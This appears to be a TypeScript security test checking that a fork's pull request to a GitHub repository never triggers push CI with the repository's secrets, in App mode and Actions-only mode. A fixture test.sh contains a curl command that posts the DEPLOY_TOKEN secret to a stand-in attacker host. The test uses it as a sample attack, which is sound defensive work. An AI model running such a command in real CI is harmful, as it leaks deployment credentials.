// Round 3, attack 1: a fork's code in the repository's push CI. A stranger opens a pull request
// from a fork with a `test.sh`; the repository's ordinary CI runs `on: [push, pull_request]`, and
// a `forks: review` workflow reviews the pull request. A branch an App makes starts `push`
// workflows (docs "Triggering a workflow"), so a run branch at the fork's commit would run the
// fork's code in push CI with the repository's secrets. Nothing of the fork may become a ref of
// the repository: no ref here (GitHub's own refs/pull/<n>/head aside) ever has the fork's commit,
// and no push-triggered run ever ran on it — in App mode under every reading of what GitHub
// answers a ref at a fork's commit (tests/emulator/readings.ts `forkShaRef`), and in Actions-only
// mode with `--app-token` (whose App token starts workflows too). The review is still posted.
import { afterEach, describe, expect, it } from 'vitest';
import type { Emulator } from '../emulator/emulator.ts';
import { READING_VALUES } from '../emulator/readings.ts';
import { startHarness, type AgentScript, type Harness } from '../app/harness.ts';
import { startActionsOnly, type ActionsOnly } from '../actions-only/harness.ts';
import { actionsOnlyForkFiles, FORK_REVIEW, strangerForkPull } from '../support/fork-review.ts';

const o = { owner: 'acme', repo: 'widgets' };

/** The repository's CI: runs the tests on every push and pull request, with a secret. */
const CI = `name: ci
on: [push, pull_request]
jobs:
  test:
    runs-on: ubuntu-latest
    env:
      DEPLOY_TOKEN: \${{ secrets.DEPLOY_TOKEN }}
    steps:
      - run: "true"
`;

/** The fork's change: a test script that would send the secrets away. */
const FORK_FILES = { 'test.sh': 'curl -d "$DEPLOY_TOKEN" https://evil.example/\n', 'src/app.txt': 'const a = 1;\n' };

const AGENTS: AgentScript = {
  look: [{ output: { loot: '{}' } }],
  'review/review': [{ output: { approved: false, summary: 'One thing to change.', comments: [] } }],
};

let app: Harness | undefined;
let actions: ActionsOnly | undefined;
afterEach(async () => {
  await app?.close();
  await actions?.close();
  app = actions = undefined;
});

/** Nothing of the fork's became a ref of the repository, and no push run ran on it. */
async function forkNeverPushed(emu: Emulator, runner: { store: { runs: Map<number, { event: string; headSha: string; headBranch: string }> } }, number: number, sha: string): Promise<void> {
  const git = emu.git(o.owner, o.repo);
  // Only GitHub's own refs for the pull request (its head, and the test merge commit its
  // `pull_request` runs check out) have the fork's commit in their history.
  expect((await git.refsContaining(sha)).filter((r) => !r.startsWith(`refs/pull/${number}/`))).toEqual([]);
  const pushRuns = [...runner.store.runs.values()].filter((r) => r.event === 'push');
  for (const r of pushRuns) expect({ branch: r.headBranch, forkCode: await git.isAncestor(sha, r.headSha) }).toEqual({ branch: r.headBranch, forkCode: false });
}

describe('round 3: a fork pull request never becomes a branch that push CI runs on', () => {
  it.each(READING_VALUES.forkShaRef)('App: the review is posted, and no ref or push run has the fork\'s commit (a ref at a fork commit: %s)', async (forkShaRef) => {
    app = await startHarness({
      files: { '.agents/workflows/fork-review.yml': FORK_REVIEW, '.github/workflows/ci.yml': CI },
      agents: AGENTS,
      secrets: { DEPLOY_TOKEN: 'deploy-token' },
      sandbox: true,
      readings: { forkShaRef },
      triggerOnWebhooks: true,
    });
    const { number, sha } = await strangerForkPull(app, o, FORK_FILES);

    const reviews = (await app.as('alice').rest.pulls.listReviews({ ...o, pull_number: number })).data;
    expect(reviews.map((r) => [r.user?.login, r.commit_id])).toEqual([['baton[bot]', sha]]);
    expect(await app.record(number)).toContain(`run \`fork-review-${number}-1\` — succeeded`);
    await forkNeverPushed(app.emu, app.runner, number, sha);
    app.emu.assertNoViolations();
  }, 180_000);

  it('Actions-only with --app-token: the review is posted, and no ref or push run has the fork\'s commit (a ref at a fork commit: accepted)', async () => {
    const written = await actionsOnlyForkFiles(['--mode', 'actions', '--app-token', '--workflows', 'review-pr']);
    actions = await startActionsOnly({
      init: ['--mode', 'actions', '--app-token', '--workflows', 'review-pr'],
      files: { ...written, '.github/workflows/ci.yml': CI },
      agentScript: [{ output: { loot: '{}' } }, { output: { approved: false, summary: 'One thing to change.', comments: [] } }],
      appSecrets: true,
      sandbox: true,
      readings: { forkShaRef: 'accepted' },
    });
    const { number, sha } = await strangerForkPull(actions, o, FORK_FILES);

    const reviews = (await actions.as('alice').rest.pulls.listReviews({ ...o, pull_number: number })).data;
    expect(reviews.map((r) => r.commit_id)).toEqual([sha]);
    await forkNeverPushed(actions.emu, actions.runner, number, sha);
  }, 240_000);
});
